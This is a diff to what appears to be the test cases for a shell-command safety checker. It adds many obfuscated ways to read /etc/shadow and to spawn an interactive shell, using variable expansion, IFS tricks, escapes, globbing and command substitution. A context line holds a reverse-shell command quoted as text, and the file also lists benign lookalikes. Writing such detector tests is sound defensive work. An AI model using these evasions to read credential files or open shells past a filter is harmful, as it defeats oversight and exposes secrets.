@@ -21,6 +21,19 @@ TRICKY = [
     "for f in /etc/shadow; do cat $f; done",
     "cat ${X:-/etc/shadow}",
     "/???/?h",
+    "cat /etc/sha$@dow",
+    "cat /etc/sh$*adow",
+    "a='cat /etc/shadow'; $a",
+    "a='bash -i'; $a",
+    "IFS=,; a=cat,/etc/shadow; $a",
+    'set -- cat /etc/shadow; "$@"',
+    'set -- sh; exec "$1"',
+    'arr=(cat /etc/shadow); "${arr[@]}"',
+    "ca\\\nt /etc/sha\\\ndow",
+    "# a comment does not go on \\\ncat /etc/shadow",
+    "bash -c $'\\143at /etc/shadow'",
+    "cat /e*c/s??dow",
+    "cat\t/etc/shadow",
 ]
 
 SUBSTITUTED = [
@@ -31,12 +44,24 @@ SUBSTITUTED = [
     "FOO=$(cat /etc/shadow) true",
     "$(echo Y2F0 | base64 -d) /etc/hosts",
     "cat <<E\n$(cat /etc/shadow)\nE",
+    "cat /etc/sha$(echo dow)",
+    "cat /etc/sha`echo dow`",
+    "cat $(echo /etc/shadow)",
+    "$(printf '\\143\\141\\164') /etc/shadow",
+    "eval \"$(printf 'cat /etc/sha%s' dow)\"",
 ]
 
 ONLY_TEXT = [
     "# cat /etc/shadow",
     "cat <<'E'\n$(cat notes)\nE",
     "echo '/bin/sh -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
+    "a='ls -l'; $a",
+    'cmd=(ls -la); "${cmd[@]}"',
+    'set -- a b; echo "$1"',
+    'f() { echo "$@"; }; f hello',
+    "printf '\\x1b[31mred\\x1b[0m\\n'",
+    "cat $(git ls-files '*.md')",
+    "make \\\n  test",
 ]
 
 
